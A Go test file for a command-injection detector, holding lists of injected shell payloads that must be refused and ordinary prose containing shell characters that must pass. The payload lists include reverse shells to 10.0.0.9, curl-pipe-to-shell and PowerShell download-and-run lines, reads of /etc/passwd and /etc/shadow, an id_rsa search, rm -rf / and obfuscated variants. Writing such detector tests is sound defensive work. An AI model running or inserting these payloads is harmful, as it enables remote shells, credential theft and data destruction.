package detect

import (
	"strings"
	"testing"
)

// injected are commands put behind a value, as tools and people do it.
var injected = []string{
	`; cat /etc/passwd`, `127.0.0.1; whoami`, `8.8.8.8 && uname -a`, `x | nc 10.0.0.9 4444 -e /bin/sh`, `a || curl http://example.net/s|sh`,
	"`whoami`", "$(whoami)", "x$(sleep 9)", "x`sleep 9`", `;sleep 9;`, `|ping -c 9 127.0.0.1`, `& ping -n 9 127.0.0.1 &`, `;ls -la`, `|ls /`,
	`;id;`, `|id`, `&&id`, "x\ncat /etc/shadow", `; wget http://example.net/a -O /tmp/a`, `;bash -i >& /dev/tcp/10.0.0.9/80 0>&1`,
	`;c'a't /etc/passwd`, `;c""at /etc/passwd`, `;ca\t /etc/passwd`, `;cat$IFS/etc/passwd`, `;cat${IFS}/etc/passwd`, `;{cat,/etc/passwd}`, `;c$@at /etc/passwd`,
	`;cat</etc/passwd`, `;/b?n/c?t /etc/passwd`, `;/???/??t /???/??ss??`, `;w$1hoami`, `;who$()ami`, `|w^hoami`, `;$(printf whoami)`,
	`& dir c:\`, `| type c:\windows\win.ini`, `&& net user`, `& ipconfig /all`, `| powershell -c "whoami"`, `&cmd /c whoami`, `;echo QWE$((31+11))`,
	`$((12*12))`, `() { :;}; echo x`, `:(){ :|:& };:`, `;sudo -u root id`, `;time whoami`, `;nohup nc -l 9`, `'; sleep 7 #`, `"; sleep 7 ;"`, `');sleep 7;#`,
	`;python3 -c 'import os'`, `;perl -e 'print 1'`, `; base64 -d <<< aWQ= | sh`, `; rm -rf / --no-preserve-root`, `| tee /tmp/x`, `;nslookup a.example.net`,
	`%3Bwhoami`, `a%7Cwhoami`, `$(curl -s http://example.net)`, `; echo hi > /var/www/x.php`, `; xxd /etc/passwd`, `| find / -name id_rsa`,
}

// bareCommands begin the value, which suffices where no prose is expected.
var bareCommands = []string{`cat /etc/passwd`, `/bin/ls -la`, `/usr/bin/id`, `ping -c 4 10.0.0.1`, `wget http://example.net/a`, `uname -a`, `id;`, `{cat,/etc/passwd}`,
	`c''at /etc/hosts`, `cmd.exe /c dir`, `bash -c "id"`, `cu\rl http://example.net`, `/???/b??h`, `%0aid`, `powershell -enc SQBFAFgA`,
	`IEX (New-Object Net.WebClient).DownloadString('http://example.net/x.ps1')`}

// shellProse is what people write with the characters of shells.
var shellProse = []string{
	`Tom & Jerry; or $5 | $6`, `Ernie & Bert`, `R&D; Sales & Marketing`, `Take the cat; find a home & more`, `Sort by date; then type in the name | see below`,
	`Either call (030) 1234 or mail me; time is short & I sleep late`, `A hero; more than that, he came last & left first`, "Dear all,\ntime is up.\nCat and dog are fine.\nHost: Anna",
	"Run `npm install` first, then `ls -la` shows the files", "My flat\nMain Street 5 | 2nd floor\nPing me when you are there", `I paid $20 | got $5 back`,
	"I ran `cat access.log | grep 500 | sort` as you said", `first grep error app.log | sort | uniq -c, then send it`, `cost: $(5) each`, `x = a || b; y = c && d`,
	`for (i = 0; i < n; i++) { total += price[i]; }`, `jQuery: $(document).ready(function () { start(); });`, `C:\Users\Anna\Desktop\report.pdf will not open`,
	`a|b|c`, `name|date|host`, `col1;col2;col3`, `id;name;date`, `Size: 8"x11" & 5'9"`, `Die Straße; links Haus Nr. 104`, `M&S, H&M; B&Q`, `less is more; more or less`,
	`^(\d{3})-(\w+)$|^[a-z]+$`, `$x^2 + y_i \leq \frac{1}{2}$ & $\alpha$`, `2026-01-02 10:11:12 ERROR disk full; host down | retry in 5 s`, "--\nAnna Meier | Sales & Service\nTel. +49 30 1234; Fax 1235",
	`Hey, who is there? At 5; echo of the hills`, `the "set" is broken; make a new one`, `I like vim; emacs is ok`, `it's 5 o'clock; wait for me at the top`,
}

func TestCommandsAreRefused(t *testing.T) {
	for _, f := range []Field{Unknown, FreeText, Name, Identifier, URL, Filename, Email, Search} {
		refuses(t, f, injected)
	}
	refuses(t, Unknown, bareCommands)
	refuses(t, Identifier, bareCommands)
	refuses(t, Filename, bareCommands)
}

func TestProseWithSeparatorsPasses(t *testing.T) {
	passes(t, FreeText, shellProse)
	passes(t, FreeText, bareCommands[3:6])
	passes(t, Unknown, []string{`Tom & Jerry; or $5 | $6`, `M&S, H&M; B&Q`, `id`, `Ernie & Bert`, `c/ find, 5; 3-a`, `id;name;date`, `a=1&id=5&sort=date`, `name|city|country`, `O'Brien; Smith & Sons`, `Fish & chips & more`, `Don't forget me; 3 < 4 &amp; more`,
		`sleep well`, `time 12:30`, `Main Street 5 | 2nd floor`, `last minute`, `ping pong`, `AT&T`, `https://example.com/?a=1&date=2026-01-01&id=7`, `$19.99`, `less`, `top`})
}

func TestCommandsMutated(t *testing.T) {
	var list []string
	for _, c := range []string{"cat /etc/passwd", "whoami", "sleep 5", "curl http://example.net/", "ls -la /", "nslookup x.example.net"} {
		for _, sep := range []string{";", "|", "||", "&&", "; ", " | ", "&", "\n", "$(", "`", "';", "\";", ");"} {
			list = append(list, "1"+sep+c, sep+c, "value"+sep+c+closing(sep))
		}
		word, rest, _ := strings.Cut(c, " ")
		for _, hidden := range []string{word[:1] + "''" + word[1:], word[:1] + `""` + word[1:], word[:1] + `\` + word[1:], "/usr/bin/" + word, word[:1] + "$@" + word[1:], word[:1] + "${u}" + word[1:], `'` + word + `'`, `"` + word + `"`} {
			list = append(list, "1;"+hidden+" "+rest, "1|"+hidden+" "+rest)
		}
		list = append(list, "1;"+strings.ReplaceAll(c, " ", "${IFS}"), "1;"+strings.ReplaceAll(c, " ", "$IFS$9"), "1;"+strings.ReplaceAll(c, " ", "\t"), "1%3b"+strings.ReplaceAll(c, " ", "%20"))
	}
	refuses(t, Unknown, list)
	refuses(t, Identifier, list)
}

func closing(sep string) string {
	switch sep {
	case "$(":
		return ")"
	case "`":
		return "`"
	}
	return ""
}
